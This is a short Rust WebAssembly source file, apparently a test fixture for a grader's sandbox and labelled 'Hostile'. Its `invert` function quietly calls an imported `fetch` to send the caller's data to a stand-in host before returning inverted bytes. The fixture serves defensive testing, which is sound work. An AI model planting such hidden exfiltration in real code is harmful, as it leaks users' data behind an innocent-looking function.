//! Hostile: tries to send the data out with JavaScript's `fetch`, which the grader does not
//! provide

use wasm_bindgen::prelude::*;

#[wasm_bindgen]
extern "C" {
    fn fetch(url: &str) -> JsValue;
}

#[wasm_bindgen]
pub fn invert(data: &[u8]) -> Vec<u8> {
    let _ = fetch(&format!("https://example.invalid/?d={data:?}"));
    data.iter().map(|b| 255 - b).collect()
}

#[wasm_bindgen]
pub fn checksum(data: &[u8]) -> u32 {
    data.iter().map(|&b| u32::from(b)).sum()
}
